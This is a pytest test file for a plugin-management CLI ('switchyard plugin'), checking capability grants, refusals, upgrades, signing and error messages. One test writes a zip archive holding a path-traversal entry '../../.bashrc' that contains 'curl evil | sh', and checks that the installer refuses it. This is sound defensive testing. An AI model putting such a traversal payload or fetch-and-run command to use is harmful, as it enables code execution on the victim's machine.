"""``switchyard plugin install|list|enable|disable|uninstall``: what an admin sees and what is
stored, on SQLite and PostgreSQL; every error is one line on stderr with exit code 2 and
leaves nothing half-installed."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.core.db_fixtures import pg
from tests.sandbox.cli_support import fails, listed, ok, run
from tests.sandbox.helpers import make_package

pg_url = pg.pg_url
pytestmark = pytest.mark.usefixtures("sandbox_entry_point", "fast_discovery")


@pytest.fixture(params=["sqlite", "postgresql"])
def backend(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    if request.param == "postgresql":
        monkeypatch.setenv("SWITCHYARD_DATABASE__URL", request.getfixturevalue("pg_url"))
    return str(request.param)


@pytest.fixture
def upgraded(backend: str, capsys: pytest.CaptureFixture[str]) -> str:
    assert "sandbox_0001" in ok(capsys, "db", "upgrade")
    return backend


def plugin_files(home: Path) -> list[str]:
    base = home / "plugins"
    return sorted(str(p.relative_to(base)) for p in base.rglob("*")) if base.exists() else []


def test_install_shows_what_is_asked_and_installs_when_granted(
    upgraded: str, capsys: Any, tmp_path: Path, _isolated_home: Path
) -> None:
    syp = make_package(
        tmp_path, capabilities=("log", "http"), hosts=("hooks.example.com", "127.0.0.1:8080")
    )
    out = ok(capsys, "plugin", "install", str(syp), "--allow-unsigned", "--grant", "log,http")
    assert "pii-redactor 0.1.0\n" in out
    assert "Masks emails, phone and card numbers in prompts" in out
    assert "hooks: on_request" in out
    assert re.search(r"log +write lines to the gateway's log", out)
    assert re.search(r"http +make HTTP requests, .*: hooks.example.com, 127.0.0.1:8080", out)
    assert "limits: memory 16 MiB, timeout 50 ms" in out
    assert "UNSIGNED" in out
    assert "installed pii-redactor 0.1.0 (unsigned); running servers pick this up" in out
    [row] = listed(capsys)
    assert (row["name"], row["version"], row["granted"], row["enabled"], row["signed"]) == (
        "pii-redactor",
        "0.1.0",
        ["log", "http"],
        True,
        False,
    )
    assert row["installed_by"].startswith("cli")
    assert "pii-redactor/0.1.0/plugin.wasm" in plugin_files(_isolated_home)
    table = ok(capsys, "plugin", "list")
    assert re.search(r"pii-redactor +0\.1\.0 +enabled +log,http +no +unsigned", table)


def test_refusing_leaves_nothing_installed(
    upgraded: str, capsys: Any, tmp_path: Path, _isolated_home: Path
) -> None:
    syp = make_package(tmp_path)
    assert (
        fails(capsys, "plugin", "install", str(syp), "--allow-unsigned", stdin="n\n")
        == "not granted; nothing was installed"
    )
    # A script without --yes or --grant gets no answer (EOF): also a refusal.
    assert fails(capsys, "plugin", "install", str(syp), "--allow-unsigned") == "not granted; nothing was installed"
    assert listed(capsys) == [] and plugin_files(_isolated_home) == []


def test_answering_yes_grants_and_installs(upgraded: str, capsys: Any, tmp_path: Path) -> None:
    code, _, err = run(capsys, "plugin", "install", str(make_package(tmp_path)), "--allow-unsigned", stdin="y\n")
    assert code == 0, err
    assert "Grant log and install pii-redactor 0.1.0? [y/N]" in err
    assert [r["granted"] for r in listed(capsys)] == [["log"]]


def test_grant_must_cover_what_is_asked(
    upgraded: str, capsys: Any, tmp_path: Path, _isolated_home: Path
) -> None:
    syp = make_package(tmp_path, capabilities=("log", "http"))
    assert fails(capsys, "plugin", "install", str(syp), "--allow-unsigned", "--grant", "log") == (
        "pii-redactor asks for http, not granted by --grant; nothing was installed"
    )
    assert fails(capsys, "plugin", "install", str(syp), "--allow-unsigned", "--grant", "log,http,kv") == (
        "--grant: pii-redactor does not ask for kv; it asks for log, http"
    )
    assert fails(capsys, "plugin", "install", str(syp), "--allow-unsigned", "--grant", "log,files").startswith(
        "--grant: unknown capability 'files'; expected some of log, kv, http, config"
    )
    assert listed(capsys) == [] and plugin_files(_isolated_home) == []


def test_json_output_is_data_only(upgraded: str, capsys: Any, tmp_path: Path) -> None:
    code, out, err = run(
        capsys, "plugin", "install", str(make_package(tmp_path)), "--allow-unsigned", "--yes", "--json"
    )
    assert code == 0, err
    data = json.loads(out)  # the description went to stderr
    assert (data["name"], data["granted"], data["signed"]) == ("pii-redactor", ["log"], False)
    assert "UNSIGNED" in err


def test_an_upgrade_asks_only_for_new_capabilities(
    upgraded: str, capsys: Any, tmp_path: Path
) -> None:
    ok(capsys, "plugin", "install", str(make_package(tmp_path / "a", version="0.1.0")), "--allow-unsigned", "--yes")
    v2 = make_package(tmp_path / "b", version="0.2.0", capabilities=("log", "kv"))
    code, out, err = run(capsys, "plugin", "install", str(v2), "--allow-unsigned", stdin="y\n")
    assert code == 0, err
    assert "pii-redactor 0.2.0 (replaces 0.1.0)" in out
    assert re.search(r"log +write lines to the gateway's log \(already granted\)", out)
    assert "Grant kv and install pii-redactor 0.2.0?" in err
    [row] = listed(capsys)
    assert (row["version"], row["granted"]) == ("0.2.0", ["log", "kv"])
    v3 = make_package(tmp_path / "c", version="0.3.0", capabilities=("log", "kv", "config"))
    assert fails(capsys, "plugin", "install", str(v3), "--allow-unsigned", "--grant", "log") == (
        "pii-redactor asks for config, not granted by --grant; nothing was installed"
    )
    assert listed(capsys)[0]["version"] == "0.2.0"


def test_enable_disable_uninstall(
    upgraded: str, capsys: Any, tmp_path: Path, _isolated_home: Path
) -> None:
    ok(capsys, "plugin", "install", str(make_package(tmp_path)), "--allow-unsigned", "--yes", "--required")
    assert listed(capsys)[0]["required"] is True
    off = json.loads(ok(capsys, "plugin", "disable", "pii-redactor", "--reason", "noisy", "--json"))
    assert (off["enabled"], off["disabled_reason"]) == (False, "noisy")
    assert re.search(r"pii-redactor +0\.1\.0 +disabled .* noisy", ok(capsys, "plugin", "list"))
    assert "enabled pii-redactor 0.1.0" in ok(capsys, "plugin", "enable", "pii-redactor")
    assert listed(capsys)[0]["enabled"] is True

    assert (
        fails(capsys, "plugin", "uninstall", "pii-redactor", stdin="n\n")
        == "nothing was uninstalled"
    )
    assert len(listed(capsys)) == 1
    removed = json.loads(ok(capsys, "plugin", "uninstall", "pii-redactor", "--yes", "--json"))
    assert removed["version"] == "0.1.0"
    assert listed(capsys) == [] and plugin_files(_isolated_home) == []
    assert "no wasm plugins installed" in ok(capsys, "plugin", "list")


def test_unknown_plugin_is_one_line(upgraded: str, capsys: Any) -> None:
    for command in ("enable", "disable"):
        assert fails(capsys, "plugin", command, "nope") == (
            "no plugin named 'nope' is installed (see `switchyard plugin list`)"
        )
    assert fails(capsys, "plugin", "uninstall", "nope", "--yes").startswith(
        "no plugin named 'nope'"
    )


def test_a_hostile_package_is_refused_in_one_line(
    upgraded: str, capsys: Any, tmp_path: Path
) -> None:
    evil = tmp_path / "evil.syp"
    with zipfile.ZipFile(evil, "w") as archive:
        archive.writestr("plugin.toml", "x")
        archive.writestr("../../.bashrc", "curl evil | sh")
    assert fails(capsys, "plugin", "install", str(evil), "--allow-unsigned", "--yes") == (
        "install refused at check archive: "
        "evil.syp: entry '../../.bashrc' points outside the package ('..' or '\\')"
    )
    assert fails(capsys, "plugin", "install", str(tmp_path / "missing.syp"), "--allow-unsigned", "--yes") == (
        f"install refused at check archive: {tmp_path / 'missing.syp'}: No such file or directory"
    )
    assert listed(capsys) == []


def test_an_unmigrated_database_is_named(backend: str, capsys: Any, tmp_path: Path) -> None:
    assert re.fullmatch(
        r"the database is not up to date \(missing .*sandbox_0001\); run `switchyard db upgrade` first",
        fails(capsys, "plugin", "list"),
    )


def test_an_unsigned_package_installs_only_by_explicit_choice(
    upgraded: str, capsys: Any, tmp_path: Path, _isolated_home: Path
) -> None:
    """No bundle beside it: refused (naming the way to allow it) until --allow-unsigned."""
    syp = make_package(tmp_path)
    assert "--allow-unsigned" in fails(capsys, "plugin", "install", str(syp), "--yes")
    assert listed(capsys) == [] and plugin_files(_isolated_home) == []
    ok(capsys, "plugin", "install", str(syp), "--yes", "--allow-unsigned")
    [entry] = listed(capsys)
    assert entry["name"] == "pii-redactor" and entry["signed"] is False
